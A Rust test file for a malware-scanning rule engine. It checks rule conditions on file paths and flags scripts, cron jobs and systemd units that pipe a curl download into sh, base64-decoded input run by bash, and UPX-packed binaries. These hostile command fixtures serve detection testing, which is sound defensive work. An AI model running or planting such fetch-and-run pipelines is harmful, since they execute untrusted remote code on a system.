use super::*;

fn hits(rules: &Rules, part: Part<'_>) -> Vec<(String, Meaning)> {
    let mut out = Vec::new();
    rules.scan(part, |rule, meaning| out.push((rule.to_owned(), meaning))).expect("scans");
    out
}

#[test]
fn rules_know_the_file_and_whether_they_see_all_of_it() {
    let rules = Rules::load(
        r#"rule named : shadow { condition: filename == "x.so" and filepath == "lib/x.so" and extension == "so" }
           rule small : suspicious { strings: $a = "needle" condition: whole and filesize < 100 and $a at 0 }
           rule plain { strings: $a = "needle" condition: $a }"#,
    );
    let rules = rules.unwrap_or_else(|error| panic!("{error}"));
    let part = Part { path: "lib/x.so", bytes: b"needle", whole: true };
    let named = |names: &[(&str, Meaning)]| {
        names.iter().map(|(name, meaning)| ((*name).to_owned(), *meaning)).collect::<Vec<_>>()
    };
    let (shadow, suspect, malware) = (Meaning::Shadow, Meaning::Suspicious, Meaning::Malware);
    assert_eq!(hits(&rules, part), named(&[("named", shadow), ("small", suspect), ("plain", malware)]));
    let window = Part { path: "lib/y.so", whole: false, ..part };
    assert_eq!(hits(&rules, window), named(&[("plain", malware)]));
}

#[test]
fn scripts_that_fetch_and_run_packed_programs_and_jobs_are_suspicious() {
    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
    let fetch = ["curl -fsSL http://192.0.2.1/x ", "| sh\n"].concat();
    let packed = [
        "\x7fELF",
        &" ".repeat(200),
        "UP",
        "X!",
        &" ".repeat(200),
        "$Info: This file is packed with the ",
        "UP",
        "X executable packer",
    ]
    .concat();
    for (path, bytes, rule) in [
        ("srv/install", format!("#!/bin/sh\n{fetch}"), "fetches_and_runs"),
        ("entrypoint.sh", "#!/bin/bash\necho aGk= | base64 -d | bash\n".to_owned(), "runs_what_it_decodes"),
        ("usr/bin/x", packed, "packed_program"),
        ("etc/cron.d/x", format!("* * * * * root {fetch}"), "job_that_fetches"),
        (
            "etc/systemd/system/x.service",
            format!("[Service]\nExecStart=/bin/sh -c '{fetch}'"),
            "job_that_fetches",
        ),
    ] {
        let found = hits(&rules, Part { path, bytes: bytes.as_bytes(), whole: true });
        assert!(found.contains(&(rule.to_owned(), Meaning::Suspicious)), "{path}: {found:?}");
    }
    let harmless = format!("Usage:\n\n    {fetch}");
    assert_eq!(
        hits(&rules, Part { path: "usr/share/doc/x/README", bytes: harmless.as_bytes(), whole: true }),
        []
    );
}
